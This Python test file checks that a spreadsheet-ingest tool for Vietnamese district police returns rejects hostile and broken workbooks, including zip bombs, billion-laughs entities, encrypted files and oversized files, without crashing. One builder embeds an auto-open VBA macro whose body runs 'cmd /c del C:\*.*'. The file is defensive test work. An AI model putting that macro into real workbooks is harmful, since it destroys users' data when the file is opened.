"""Hostile and broken files dropped into a cycle folder beside the good returns (issue item 1, 2).

The committed 2023-H1 sample is copied twice into tmp: once as it is ("clean"), once with every bad
file of item 1 added and some good returns swapped for variants that must still load ("mixed").
The mixed folder must give exactly the numbers of the clean one, one located error finding per bad
file, and no traceback through ``antt summary``.  Peak memory and time per bad file are measured
in a subprocess and printed (run with ``-s``); the process-wide limit is 1.5 GB.

Every file is built here at test time; nothing binary is committed.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.workbook.protection import WorkbookProtection

from antt.core import config
from antt.cli import main
from antt.check.cycle import load_cycle
from antt.store.frames import CycleFrames
from tests import returns_builder as B
from tests.unit import test_hostile_files as H

CYCLE = "2023-H1"
SAMPLE = config.ROOT / "data" / "raw" / CYCLE
PEAK_LIMIT_MB = 1536
REPO = Path(__file__).resolve().parents[2]

# bad file name -> (expected code, words the Vietnamese message must hold: the reason)
BAD = {
    "rong.xlsx": ("file_empty", ["0 byte"]),
    "Bu Gia Map - bi cat ngang.xlsx": ("file_unreadable", ["cắt cụt"]),
    "bao_cao_dang_csv.xlsx": ("file_not_workbook", ["không phải bảng tính", "CSV"]),
    "bao_cao_mat_khau.xlsx": ("file_encrypted", ["mật khẩu"]),
    "chi_co_chu.xlsx": ("file_no_table", ["Không nhận ra biểu"]),
    "DauTieng_BinhDuong_6T2023.xlsx": ("unit_other_province", ["Dầu Tiếng", "Bình Dương", "Đồng Nai"]),
    "bom_giai_nen.xlsx": ("file_hostile", ["tỷ lệ nén"]),
    "billion_laughs.xlsx": ("file_hostile", ["<!ENTITY"]),
    "trieu_dong_rac.xlsx": ("file_too_large", ["20000 dòng"]),
    "o_trieu_ky_tu.xlsx": ("file_too_large", ["1000000 ký tự"]),
}

# Good returns replaced by a variant that must load to the same numbers (sole file of its district).
XLSM = "BC TDBVANTQ Phuoc Long 6T-2023.xlsm"                  # from the .xlsx, macros added
LINKS = "BinhLong_Bieu_TK_6T2023.xlsx"                         # external links, cached values
PROTECTED = "Bu Dop_bieu thong ke_T6-2023.xlsx"                # sheet + workbook protection (openpyxl)
VIET_NFC = "Công an huyện Đồng Phú – báo cáo sơ kết 6 tháng đầu năm 2023.xlsx"
VIET_NFD = unicodedata.normalize("NFD", "Phú Riềng  báo cáo 6 tháng (bản cuối).xlsx")
COPY = "HonQuan_TDBVANTQ_6thang2023 - Copy.xlsx"               # byte-identical to HonQuan_..._6thang2023.xlsx
RENAMED = {"BC TDBVANTQ Phuoc Long 6T-2023.xlsx": XLSM,
           "DONG PHU - BC SO KET 6 THANG 2023.xlsx": VIET_NFC,
           "PhuRieng-TDBVANTQ-6T-2023.xlsx": VIET_NFD}


# ---------------------------------------------------------------------------------------------
# builders
# ---------------------------------------------------------------------------------------------
def rezip(src: Path, dst: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> Path:
    """Copy a zip member by member (same order, same compression), some members replaced or added."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst.with_suffix(".part"), "w") as zout:
        for info in zin.infolist():
            data = replace.get(info.filename, zin.read(info.filename))
            zout.writestr(info, data)
        for name, data in add.items():
            zout.writestr(name, data, zipfile.ZIP_DEFLATED)
    dst.with_suffix(".part").replace(dst)
    return dst


def make_xlsm(src: Path, dst: Path) -> Path:
    """The .xlsx made macro-enabled: a VBA project part (an auto-open macro would live here)."""
    with zipfile.ZipFile(src) as z:
        ct = z.read("[Content_Types].xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    ct = ct.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    ct = ct.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = rels.replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/'
                        '2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    vba = H.cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000\r\n'
                            b'Name="VBAProject"\r\n',
                 "ThisWorkbook": b"Attribute VB_Name = \"ThisWorkbook\"\r\nPrivate Sub Workbook_Open()\r\n"
                                 b"Shell \"cmd /c del C:\\*.*\"\r\nEnd Sub\r\n"})
    return rezip(src, dst, {"[Content_Types].xml": ct.encode(), "xl/_rels/workbook.xml.rels": rels.encode()},
                 {"xl/vbaProject.bin": vba})


_NUM_CELL = re.compile(r'<c r="([A-Z]+)(\d+)"( s="\d+")?( t="n")?><v>(\d+)</v></c>')


def make_external_links(src: Path, dst: Path, linked: Path) -> tuple[Path, int]:
    """Every number of the first sheet below row 9 becomes ``=[1]KDC!<cell>`` with its cached value;
    the link points at ``linked`` (a real workbook holding 999 everywhere) and at a UNC share."""
    with zipfile.ZipFile(src) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        wb = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
        ct = z.read("[Content_Types].xml").decode()
    count = 0

    def to_formula(m: re.Match) -> str:
        nonlocal count
        col, row, style, _, value = m.groups()
        if int(row) <= 9:
            return m.group(0)
        count += 1
        return f'<c r="{col}{row}"{style or ""}><f>[1]KDC!{col}{row}</f><v>{value}</v></c>'

    sheet = _NUM_CELL.sub(to_formula, sheet)
    wb = wb.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId90"/>'
                    '<externalReference r:id="rId91"/></externalReferences>')
    rels = rels.replace("</Relationships>",
                        '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                        '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/externalLink" Target="externalLinks/externalLink2.xml"/></Relationships>')
    ct = ct.replace("</Types>", "".join(
        f'<Override PartName="/xl/externalLinks/externalLink{i}.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>' for i in (1, 2)) + "</Types>")
    ns = ('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
    link = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink {ns}><externalBook r:id="rId1">'
            '<sheetNames><sheetName val="KDC"/></sheetNames><sheetDataSet><sheetData sheetId="0">'
            '<row r="10"><cell r="C10"><v>999</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>')
    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
                 'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                 'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="{}" '
                 'TargetMode="External"/></Relationships>')
    rezip(src, dst, {"xl/worksheets/sheet1.xml": sheet.encode(), "xl/workbook.xml": wb.encode(),
                     "xl/_rels/workbook.xml.rels": rels.encode(), "[Content_Types].xml": ct.encode()},
          {"xl/externalLinks/externalLink1.xml": link.encode(),
           "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.format(linked.as_uri()).encode(),
           "xl/externalLinks/externalLink2.xml": link.encode(),
           "xl/externalLinks/_rels/externalLink2.xml.rels":
               link_rels.format("file://///10.0.0.1/chia_se/nguon.xlsx").encode()})
    return dst, count


def make_protected(src: Path, dst: Path) -> Path:
    wb = openpyxl.load_workbook(src)
    for ws in wb.worksheets:
        ws.protection.sheet = True
        ws.protection.password = "bimat"
    wb.security = WorkbookProtection(workbookPassword="bimat", lockStructure=True)
    wb.save(dst)
    return dst


def linked_source(path: Path) -> Path:
    """The workbook the external links point at: 999 in every cell they name."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "KDC"
    for r in range(1, 200):
        for c in range(1, 10):
            ws.cell(r, c, 999)
    wb.save(path)
    return path


def build_bad_files(folder: Path, scratch: Path) -> None:
    """Every file of item 1 that must be rejected, under the names of ``BAD``."""
    scratch.mkdir(parents=True, exist_ok=True)

    def put(builder, name: str) -> None:
        d = scratch / name
        d.mkdir()
        shutil.move(builder(d), folder / name)

    put(H.case_zero_byte, "rong.xlsx")
    whole = (SAMPLE / "Bu Gia Map - thong ke phong trao 6 thang 2023.xlsx").read_bytes()
    (folder / "Bu Gia Map - bi cat ngang.xlsx").write_bytes(whole[: len(whole) * 2 // 3])
    put(H.case_csv_renamed, "bao_cao_dang_csv.xlsx")
    put(H.case_ole_encrypted_package, "bao_cao_mat_khau.xlsx")
    # a return of this province and period, but text only: no table heading
    B.write_xlsx(folder / "chi_co_chu.xlsx", [B.SheetSpec("Báo cáo", B.title_rows(unit="CÔNG AN HUYỆN BÙ ĐĂNG") + [
        ["Trong 6 tháng đầu năm, phong trào tiếp tục được triển khai sâu rộng."],
        ["Số liệu chi tiết sẽ gửi sau."]])])
    other = B.standard_sheets(unit="CÔNG AN HUYỆN DẦU TIẾNG", place="Dầu Tiếng, ngày 16 tháng 6 năm 2023")
    for spec in other:
        spec.rows[0][0] = "CÔNG AN TỈNH BÌNH DƯƠNG"
    B.write_xlsx(folder / "DauTieng_BinhDuong_6T2023.xlsx", other)
    put(H.case_zip_bomb, "bom_giai_nen.xlsx")
    put(H.case_billion_laughs_sheet, "billion_laughs.xlsx")
    put(H.case_million_junk_rows, "trieu_dong_rac.xlsx")
    put(H.case_million_char_cell, "o_trieu_ky_tu.xlsx")


def build_mixed(folder: Path, scratch: Path) -> dict:
    """The sample copied, good returns swapped for variants, every bad file added."""
    shutil.copytree(SAMPLE, folder)
    for old, new in RENAMED.items():
        (folder / old).rename(folder / new)
    make_xlsm(SAMPLE / "BC TDBVANTQ Phuoc Long 6T-2023.xlsx", folder / XLSM)
    scratch.mkdir(parents=True, exist_ok=True)
    linked = linked_source(scratch / "nguon_lien_ket.xlsx")
    _, linked_cells = make_external_links(SAMPLE / LINKS, folder / LINKS, linked)
    make_protected(SAMPLE / PROTECTED, folder / PROTECTED)
    shutil.copyfile(folder / "HonQuan_TDBVANTQ_6thang2023.xlsx", folder / COPY)
    build_bad_files(folder, scratch / "bad")
    return {"linked_cells": linked_cells}


@pytest.fixture(scope="module")
def roots(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile_cycle")
    clean, mixed = base / "clean", base / "mixed"
    shutil.copytree(SAMPLE, clean / CYCLE)
    info = build_mixed(mixed / CYCLE, base / "scratch")
    return {"clean": clean, "mixed": mixed, **info}


@pytest.fixture(scope="module")
def loaded(roots):
    return (CycleFrames(load_cycle(roots["clean"], CYCLE, B.SCOPE)),
            CycleFrames(load_cycle(roots["mixed"], CYCLE, B.SCOPE)))


def rel(name: str) -> str:
    return f"{CYCLE}/{name}"


# ---------------------------------------------------------------------------------------------
# the mixed folder, in this process
# ---------------------------------------------------------------------------------------------
def test_the_variants_are_what_they_claim(roots):
    folder = roots["mixed"] / CYCLE
    with zipfile.ZipFile(folder / XLSM) as z:
        assert "xl/vbaProject.bin" in z.namelist()
    with zipfile.ZipFile(folder / LINKS) as z:
        assert "xl/externalLinks/_rels/externalLink1.xml.rels" in z.namelist()
        assert "<f>[1]KDC!" in z.read("xl/worksheets/sheet1.xml").decode()
    assert roots["linked_cells"] >= 20
    wb = openpyxl.load_workbook(folder / PROTECTED)
    assert all(ws.protection.sheet for ws in wb.worksheets)
    assert (folder / COPY).read_bytes() == (folder / "HonQuan_TDBVANTQ_6thang2023.xlsx").read_bytes()
    assert unicodedata.is_normalized("NFD", VIET_NFD) and not unicodedata.is_normalized("NFC", VIET_NFD)
    assert set(BAD) <= {p.name for p in folder.iterdir()}


def test_good_returns_give_the_same_numbers_as_alone(loaded):
    clean, mixed = loaded
    assert len(clean.units) == 11
    pd.testing.assert_frame_equal(mixed.units, clean.units)
    assert mixed.completeness == clean.completeness
    for tid, frame in clean.tables.items():
        a = frame.drop(columns="source_file").sort_values(["unit_code", "sheet", "row"]).reset_index(drop=True)
        b = (mixed.tables[tid].drop(columns="source_file").sort_values(["unit_code", "sheet", "row"])
             .reset_index(drop=True))
        pd.testing.assert_frame_equal(b, a, obj=tid)


def test_each_bad_file_is_rejected_with_one_located_vietnamese_error(loaded):
    _, mixed = loaded
    status = dict(zip(mixed.files["file"], mixed.files["status"]))
    for name, (code, words) in BAD.items():
        assert status[rel(name)] == "rejected", name
        errors = mixed.findings[(mixed.findings["file"] == rel(name)) & (mixed.findings["severity"] == "error")]
        assert len(errors) == 1, (name, errors.to_dict("records"))
        f = errors.iloc[0]
        assert f["code"] == code, (name, f["code"], f["message"])
        assert "tệp" in f["message"].casefold(), f["message"]
        for w in words:
            assert w in f["message"], (name, w, f["message"])
    # and nothing else is rejected
    assert sorted(f for f, s in status.items() if s == "rejected") == sorted(rel(n) for n in BAD)


def test_variants_load_and_the_copy_is_superseded(loaded):
    clean, mixed = loaded
    files = mixed.files.set_index("file")
    for name in (XLSM, LINKS, PROTECTED, VIET_NFC, VIET_NFD):
        assert files.loc[rel(name), "status"] == "loaded", name
        assert list(files.loc[rel(name), "tables"]) == ["kdc", "ntm", "models", "outreach", "bright_spots"], name
    assert files.loc[rel(XLSM), "format"] == "xlsm"
    pair = files.loc[[rel("HonQuan_TDBVANTQ_6thang2023.xlsx"), rel(COPY)], "status"]
    assert sorted(pair) == ["loaded", "superseded"]
    loser = pair[pair == "superseded"].index[0]
    dup = mixed.findings[(mixed.findings["file"] == loser) & (mixed.findings["code"] == "file_duplicate")]
    assert len(dup) == 1 and dup.iloc[0]["severity"] == "info"
    # the good files' own findings are those they have alone (renamed files compared by content)
    back = {rel(new): rel(old) for old, new in RENAMED.items()}

    def own(data, names):
        f = data.findings[data.findings["file"].isin(names) & (data.findings["code"] != "file_duplicate")]
        return sorted((back.get(r.file, r.file), r.code, r.sheet, r.cell, r.message) for r in f.itertuples())

    untouched = [f for f in clean.files["file"] if f.split("/")[1] not in (LINKS, PROTECTED)]
    untouched = [next((k for k, v in back.items() if v == f), f) for f in untouched]
    expected = own(clean, clean.files["file"].tolist())
    expected = [e for e in expected if e[0].split("/")[1] not in (LINKS, PROTECTED)]
    assert own(mixed, untouched) == expected


def test_accounts_of_the_variants_equal_the_originals(loaded):
    clean, mixed = loaded
    back = {rel(new): rel(old) for old, new in RENAMED.items()}
    cols = ["table", "sheet", "data", "total", "group", "numbering", "footer", "set_aside"]
    for name in (XLSM, LINKS, PROTECTED, VIET_NFC, VIET_NFD):
        a = mixed.accounts[mixed.accounts["file"] == rel(name)][cols].sort_values("table").reset_index(drop=True)
        orig = back.get(rel(name), rel(name))
        b = clean.accounts[clean.accounts["file"] == orig][cols].sort_values("table").reset_index(drop=True)
        pd.testing.assert_frame_equal(a, b, obj=name)


class FakePanic(BaseException):
    """Stands in for pyo3_runtime.PanicException, which derives from BaseException, not Exception."""


def test_a_reader_panic_on_one_file_becomes_its_finding(roots, loaded, monkeypatch):
    from antt.read import calamine

    clean, _ = loaded
    victim = roots["mixed"] / CYCLE / "Bu Gia Map - thong ke phong trao 6 thang 2023.xlsx"
    poison = victim.read_bytes()
    real = calamine.open_calamine

    def open_calamine(data: bytes):
        if data == poison:
            raise FakePanic("called `Option::unwrap()` on a `None` value")
        return real(data)

    monkeypatch.setattr(calamine, "open_calamine", open_calamine)
    data = CycleFrames(load_cycle(roots["mixed"], CYCLE, B.SCOPE, workers=1))
    name = rel(victim.name)
    assert data.files.set_index("file").loc[name, "status"] == "rejected"
    errors = data.findings[(data.findings["file"] == name) & (data.findings["severity"] == "error")]
    assert errors["code"].tolist() == ["file_unreadable"] and "FakePanic" in errors.iloc[0]["message"]
    # the other districts keep their numbers; Bù Gia Mập (691) has none now
    pd.testing.assert_frame_equal(data.units.drop(index="691"), clean.units.drop(index="691"))
    assert data.units.loc["691"].isna().all()
    # the file name names the district, so its return shows as rejected (not merely missing)
    assert data.completeness["691"] == dict.fromkeys(clean.completeness["691"], "rejected")
    assert data.files.set_index("file").loc[name, "unit_code"] == "691"


# ---------------------------------------------------------------------------------------------
# through the command: no traceback, and the process stays under 1.5 GB
# ---------------------------------------------------------------------------------------------
def run_cli(*argv) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


def test_summary_command_shows_findings_not_tracebacks(roots):
    code, text, err = run_cli("summary", "--raw", str(roots["mixed"]), "--cycle", CYCLE, "--province", B.SCOPE)
    assert code == 0 and "Traceback" not in text + err and err == ""
    for name in BAD:
        assert f"[bị từ chối] {rel(name)}" in text
        # one error per file, at the file or at the cell it is about ("… › Biểu 1 › A2: ")
        assert len(re.findall(rf"Lỗi: {re.escape(rel(name))}(?: › [^:\n]*)?: ", text)) == 1, name
    assert "Đơn vị báo cáo (cấp huyện): 11/11" in text
    code, _, _ = run_cli("summary", "--raw", str(roots["mixed"]), "--cycle", CYCLE, "--province", B.SCOPE, "--strict")
    assert code == 1


# Was a bug (found by this suite, fixed since): cli.summary_object copies files.unit_code as is: pd.NA for
#  a rejected file whose district is unknown -> json.dump raises TypeError (traceback to the user)
def test_summary_json_with_rejected_files(roots):
    code, out, err = run_cli("summary", "--raw", str(roots["mixed"]), "--cycle", CYCLE, "--province", B.SCOPE, "--json")
    assert code == 0 and "Traceback" not in out + err and err == ""
    obj = json.loads(out)
    status = {f["file"]: f["status"] for f in obj["files"]}
    assert all(status[rel(n)] == "rejected" for n in BAD)
    for name in BAD:
        assert sum(1 for f in obj["findings"] if f["file"] == rel(name) and f["severity"] == "error") == 1
    assert obj["districts_reporting"] == 11 and obj["missing_districts"] == []
    code, clean_out, _ = run_cli("summary", "--raw", str(roots["clean"]), "--cycle", CYCLE, "--province", B.SCOPE, "--json")
    assert json.loads(clean_out)["totals"] == obj["totals"]
    assert json.loads(clean_out)["by_district"] == obj["by_district"]


CLI_RUNNER = r"""
import contextlib, io, json, re, sys
from antt.cli import main
out, err = io.StringIO(), io.StringIO()
with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
    code = main(sys.argv[2:])
hwm = int(re.search(r"VmHWM:\s+(\d+)", open("/proc/self/status").read()).group(1)) / 1024
with open(sys.argv[1], "w", encoding="utf-8") as fh:
    json.dump({"code": code, "out": out.getvalue(), "err": err.getvalue(), "hwm_mb": hwm}, fh, ensure_ascii=False)
"""


def run_measured(args: list[str], timeout: float = 180) -> tuple[int, dict, float]:
    """Run ``python -c <args>`` in a child; (exit status, wait4 rusage ru_maxrss in MB, wall seconds)."""
    import time

    t = time.perf_counter()
    proc = subprocess.Popen([sys.executable, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    timer = threading.Timer(timeout, proc.kill)
    timer.start()
    # drain the pipes in threads so the child never blocks on a full pipe
    chunks = {"out": [], "err": []}
    readers = [threading.Thread(target=lambda s=s, k=k: chunks[k].append(s.read()))
               for s, k in ((proc.stdout, "out"), (proc.stderr, "err"))]
    for r in readers:
        r.start()
    _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    timer.cancel()
    for r in readers:
        r.join()
    seconds = time.perf_counter() - t
    return proc.returncode, {"maxrss_mb": usage.ru_maxrss / 1024, "stdout": b"".join(chunks["out"]).decode(),
                             "stderr": b"".join(chunks["err"]).decode()}, seconds


def test_summary_subprocess_peak_memory(roots, tmp_path):
    result = tmp_path / "result.json"
    rc, usage, seconds = run_measured(["-c", CLI_RUNNER, str(result), "summary", "--raw", str(roots["mixed"]),
                                       "--cycle", CYCLE, "--province", B.SCOPE, "--json"])
    assert rc == 0, usage["stderr"][-3000:]
    res = json.loads(result.read_text(encoding="utf-8"))
    print(f"\n  antt summary --json on the mixed folder ({len(list((roots['mixed'] / CYCLE).iterdir()))} files): "
          f"exit {res['code']}, {seconds:.1f} s, peak RSS {res['hwm_mb']:.0f} MB "
          f"(wait4 ru_maxrss {usage['maxrss_mb']:.0f} MB)")
    assert res["code"] == 0 and "Traceback" not in res["err"] + usage["stderr"]
    obj = json.loads(res["out"])
    assert obj["districts_reporting"] == 11
    assert sum(1 for f in obj["files"] if f["status"] == "rejected") == len(BAD)
    assert usage["maxrss_mb"] < PEAK_LIMIT_MB and res["hwm_mb"] < PEAK_LIMIT_MB


PER_FILE_RUNNER = r"""
import json, re, sys, time
from pathlib import Path
from antt.read.returns import load_return
from antt.core import units
from antt.core.cycles import parse_cycle
raw, cycle = Path(sys.argv[1]), parse_cycle(sys.argv[2])
h = units.hierarchy_on(cycle.end)
def hwm():
    return int(re.search(r"VmHWM:\s+(\d+)", open("/proc/self/status").read()).group(1)) / 1024
load_return(raw / cycle.id / sys.argv[3], raw, cycle, "70", h)   # warm: hierarchy, caches
out = {}
for name in sys.argv[4:]:
    open("/proc/self/clear_refs", "w").write("5")     # VmHWM := current RSS
    before = hwm()
    t = time.perf_counter()
    r = load_return(raw / cycle.id / name, raw, cycle, "70", h)
    out[name] = {"seconds": time.perf_counter() - t, "base_mb": before, "peak_mb": hwm(), "status": r.status,
                 "findings": [[f.severity, f.code, f.message] for f in r.findings]}
print(json.dumps(out, ensure_ascii=False))
"""


def test_each_bad_file_peak_memory_and_time(roots):
    """Peak RSS and time of ``load_return`` per bad file, in one fresh process (VmHWM reset per file)."""
    folder = roots["mixed"] / CYCLE
    good = ["BaoCao_LocNinh_6T2023.xlsx", XLSM, LINKS, PROTECTED, VIET_NFC]
    rc, usage, _ = run_measured(["-c", PER_FILE_RUNNER, str(roots["mixed"]), CYCLE,
                                 "BinhLong_Bieu_TK_6T2023.xlsx", *BAD, *good])
    assert rc == 0, usage["stderr"][-3000:]
    res = json.loads(usage["stdout"].strip().splitlines()[-1])
    print(f"\n  {'file':34s} {'status':9s} {'time':>7s} {'peak RSS':>9s}  message")
    for name in [*BAD, *good]:
        r = res[name]
        size = (folder / name).stat().st_size
        msg = next((m for s, c, m in r["findings"] if s == "error"), "")
        print(f"  {name[:34]:34s} {r['status']:9s} {r['seconds']:6.2f}s {r['peak_mb']:6.0f} MB  "
              f"({size:,} B) {msg}")
        assert r["peak_mb"] < PEAK_LIMIT_MB
        assert r["status"] == ("rejected" if name in BAD else "loaded"), (name, r)
    print(f"  whole reader process: wait4 ru_maxrss {usage['maxrss_mb']:.0f} MB")
    assert usage["maxrss_mb"] < PEAK_LIMIT_MB


# ---------------------------------------------------------------------------------------------
# found while writing these tests (each failed first; fixed since)
# ---------------------------------------------------------------------------------------------
HUGE_RUNNER = r"""
import json, re, resource, sys
from pathlib import Path
from antt.core.cycles import parse_cycle
from antt.read.returns import load_return
from antt.core.units import crosswalk, current, hierarchy_on, legacy
from antt.core.territory import resolve
hierarchy_on(parse_cycle("2023-H1").end)          # the units' database is read before the count starts
resolve("70")                                     # (both hierarchies: a scope is a territory,
crosswalk(legacy(), current())                    #  and the crosswalk between them)
vm = int(re.search(r"VmSize:\s+(\d+)", open("/proc/self/status").read()).group(1)) * 1024
resource.setrlimit(resource.RLIMIT_AS, (vm + 1536 * 2**20, resource.RLIM_INFINITY))   # 1.5 GB more, at most
def bytes_read():
    return int(re.search(r"rchar:\s+(\d+)", open("/proc/self/io").read()).group(1))
before = bytes_read()
try:
    r = load_return(Path(sys.argv[1]), Path(sys.argv[2]), "2023-H1")
    out = {"status": r.status, "codes": [f.code for f in r.findings]}
except BaseException as e:
    out = {"raised": f"{type(e).__name__}: {e}"}
out["bytes_read"] = bytes_read() - before
print(json.dumps(out))
"""


# Was a bug (found by this suite, fixed since): returns.load_return reads the whole file (path.read_bytes()
#  for its sha256) before read_workbook checks the size limit: a 2 GB file costs 2 GB of memory (MemoryError
#  escapes under a 1.5 GB limit; without one, 2.1 GB peak and 13 s)
def test_a_huge_file_is_rejected_without_reading_it_into_memory(tmp_path):
    folder = tmp_path / CYCLE
    folder.mkdir()
    huge = folder / "khong_lo.xlsx"
    with open(huge, "wb") as fh:            # sparse: 2 GB on paper, no disk used
        fh.truncate(2 * 2**30)
    proc = subprocess.run([sys.executable, "-c", HUGE_RUNNER, str(huge), str(tmp_path)],
                          capture_output=True, text=True, timeout=120)
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    print(f"\n  2 GB sparse file: {out}")
    assert out.get("status") == "rejected" and out["codes"] == ["file_too_large"], out
    assert out["bytes_read"] < 2**20, out        # refused on its size, not read


# Was a bug (found by this suite, fixed since): a file name that is not valid UTF-8 (a zip extracted with a
#  legacy Vietnamese code page) makes load_cycle fail (pyarrow UnicodeEncodeError on the files frame) and
#  ingest fail (input_hash: p.name.encode()): one odd name loses the whole cycle
def test_a_file_name_in_a_legacy_encoding_does_not_lose_the_cycle(tmp_path, loaded):
    clean, _ = loaded
    folder = tmp_path / CYCLE
    shutil.copytree(SAMPLE, folder)
    # "Báo cáo Bù Đốp.xlsx" as a CP1258 zip extraction leaves it on a UTF-8 file system
    os.rename(folder / PROTECTED, os.fsencode(folder) + b"/B\xe1o c\xe1o B\xf9 \xd0\xf4p.xlsx")
    data = CycleFrames(load_cycle(tmp_path, CYCLE, B.SCOPE))
    pd.testing.assert_frame_equal(data.units, clean.units)
    odd = [f for f in data.files["file"] if "\ufffd" in f]
    assert odd == [f"{CYCLE}/B\ufffdo c\ufffdo B\ufffd \ufffd\ufffdp.xlsx"]
    assert data.files.set_index("file").loc[odd[0], "status"] == "loaded"
    from antt.store.ingest import ingest
    from antt.store.processed import read_frame

    ingest(tmp_path, tmp_path / "processed")
    assert odd[0] in set(read_frame(tmp_path / "processed", CYCLE, "files")["file"])
    code, out, err = run_cli("summary", "--raw", str(tmp_path), "--cycle", CYCLE, "--province", B.SCOPE, "--json")
    assert code == 0 and err == "" and odd[0] in {f["file"] for f in json.loads(out)["files"]}
